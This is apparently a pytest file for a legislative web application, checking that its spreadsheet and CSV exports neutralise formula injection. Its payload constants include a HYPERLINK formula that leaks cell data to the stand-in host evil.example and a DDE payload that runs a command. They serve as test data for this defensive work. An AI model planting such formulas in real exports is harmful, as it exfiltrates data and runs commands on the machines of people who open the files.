"""Formula injection (CSV/XLSX injection) in every spreadsheet export (issue 15, item 2).

A citizen's comment `=HYPERLINK("http://evil.example/?d="&A1,"点此查看")` became a live formula in the bill's
comments export; so did a suggestion title in the 汇总表. Every export now goes through renda.core.spreadsheets:
each test plants formulas (also behind a tab, a carriage return or a full-width space) in what an export writes,
downloads it through its page and asserts that no cell is a formula (openpyxl `data_type != "f"`), that the planted
text is still there, as text, and that numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from tests.conftest import password_login as login

from renda.core.spreadsheets import looks_like_formula, safe_text, workbook_bytes

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
TAB = "\t=1+1"
CR = "\r=cmd|' /C calc'!A0"
PLUS = "+SUM(1,2)"
MINUS = "-2+3"
AT = "@SUM(1,1)"
WIDE = "\u3000=1+2"  # a full-width space first
PAYLOADS = [HYPERLINK, TAB, CR, PLUS, MINUS, AT, WIDE]




def cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formula(content: bytes, *planted: str):
    """No formula anywhere; each planted text is present as a text cell."""
    wb = load_workbook(io.BytesIO(content))
    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells(wb) if c.data_type == "f"]
    assert not formulas, formulas
    texts = {c.value: c for c in cells(wb) if isinstance(c.value, str)}
    for p in planted:
        found = [c for v, c in texts.items() if p.strip() in v]
        assert found, f"planted {p!r} not in the export"
        assert all(c.data_type == "s" for c in found)
        assert any(c.quotePrefix for c in found if looks_like_formula(c.value))
    return wb


# ---- the core functions ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [*PAYLOADS, "\x0b=1", "\u200b=1", "\ufeff@x", "＝1+1", " \n -1"])
def test_formula_like_texts_are_recognised(text):
    assert looks_like_formula(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "建议=加强", "1+1", "河道-治理", "email@example.com", "  普通文字"])
def test_ordinary_texts_are_left_alone(text):
    assert not looks_like_formula(text)
    assert safe_text(text) == text


def test_numbers_stay_numbers_and_text_keeps_its_wording():
    wb = Workbook()
    ws = wb.active
    ws.append([-12.5, -3, dt.date(2026, 1, 2), HYPERLINK, TAB, "普通"])
    ws["A2"] = "=SUM(A1:B1)"  # even a formula set on purpose is written as text by this writer
    out = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    assert (out["A1"].data_type, out["A1"].value) == ("n", -12.5)
    assert (out["B1"].data_type, out["B1"].value) == ("n", -3)
    assert out["C1"].is_date
    assert (out["D1"].data_type, out["D1"].value, out["D1"].quotePrefix) == ("s", HYPERLINK, True)
    assert (out["E1"].data_type, out["E1"].value) == ("s", TAB)
    assert (out["F1"].data_type, out["F1"].quotePrefix) == ("s", False)
    assert (out["A2"].data_type, out["A2"].value) == ("s", "=SUM(A1:B1)")


# ---- every export, through its page ------------------------------------------------------------------------------
def test_bill_comments_and_comment_report(cast):
    from tests.legislation.conftest import advance, make_bill

    from renda.core.roles import Role
    from renda.demo.builders import make_user
    from renda.legislation import services
    from renda.legislation.models import Stage

    c = cast
    c.legal = make_user("legal", c.password, congress=c.congress, role=Role.COMMITTEE, display_name="法制委",
                        organization=c.city.bodies["fzw"])
    bill = advance(c, make_bill(c, title=HYPERLINK.replace("点此查看", "条例")), "commented")
    draft = bill.versions.get(stage=Stage.DRAFT)
    at = dt.datetime(2026, 3, 26, 10, tzinfo=dt.UTC)
    for i, text in enumerate(PAYLOADS):
        services.comment_add(actor=c.clerk, bill=bill, version=draft, text=f"{text}（{i}）", source="public",
                             eid="chp_1__art_3", submitted_at=at)
    client = login(c.clerk)
    resp = client.get(f"/legislation/{bill.pk}/comments.xlsx")
    assert resp.status_code == 200
    assert_no_formula(resp.content, *(f"{p}（{i}）" for i, p in enumerate(PAYLOADS)))
    services.comment_analysis_start(actor=c.clerk, version=draft)
    services.decision_save(actor=c.clerk, version=draft, article_eid="chp_1__art_3", outcome="not_adopted",
                           reasons=AT + "理由", main_opinions=HYPERLINK)
    resp = client.get(f"/legislation/versions/{draft.pk}/comment-report.xlsx")
    assert resp.status_code == 200
    assert_no_formula(resp.content, AT + "理由")


def test_proposals_summary(cast):
    from tests.proposals.factories import assigned

    for i, text in enumerate(PAYLOADS):
        assigned(cast, title=f"{text}关于河道的建议{i}")
    resp = login(cast.clerk).get("/proposals/export/summary.xlsx")
    assert resp.status_code == 200
    assert_no_formula(resp.content, *(f"{p}关于河道的建议{i}" for i, p in enumerate(PAYLOADS)))


def test_work_plan(plan_world):
    from renda.workplan.models import WorkPlanItem

    c = plan_world
    WorkPlanItem.objects.filter(pk=c.item_water.pk).update(title=HYPERLINK, description=CR, result=AT)
    WorkPlanItem.objects.filter(pk=c.item_school.pk).update(title=TAB, description=WIDE, result=MINUS)
    resp = login(c.clerk).get(reverse("workplan:export", args=[c.plan.pk, "xlsx"]))
    assert resp.status_code == 200
    assert_no_formula(resp.content, HYPERLINK, CR, AT, TAB, WIDE, MINUS)


def test_deputies_registry_and_composition(cast):
    from renda.deputies.models import Deputy

    first, second = cast.city.deputies[0], cast.city.deputies[1]
    Deputy.objects.filter(pk=first.pk).update(occupation=HYPERLINK, sector=PLUS, constituency=TAB)
    Deputy.objects.filter(pk=second.pk).update(occupation=CR, sector=AT)
    client = login(cast.clerk)
    resp = client.get("/deputies/registry/export.xlsx")
    assert resp.status_code == 200
    assert_no_formula(resp.content, HYPERLINK, PLUS, TAB, CR, AT)
    resp = client.get("/deputies/composition/export.xlsx")
    assert resp.status_code == 200
    assert_no_formula(resp.content, PLUS, AT)


def test_open_data_csv(cast):
    from renda.deputies.models import Deputy

    sector_len = Deputy._meta.get_field("sector").max_length
    payloads = [text[:sector_len] for text in PAYLOADS]  # the column's length (PostgreSQL enforces it)
    for deputy, text in zip(cast.city.deputies, payloads, strict=False):
        Deputy.objects.filter(pk=deputy.pk).update(sector=text)
    resp = Client().get(f"/public/{cast.congress.code}/data/deputies.csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    sectors = [r[2] for r in rows[1:]]
    for text in payloads:
        assert "'" + text in sectors, text
    assert not [s for s in sectors if looks_like_formula(s)]
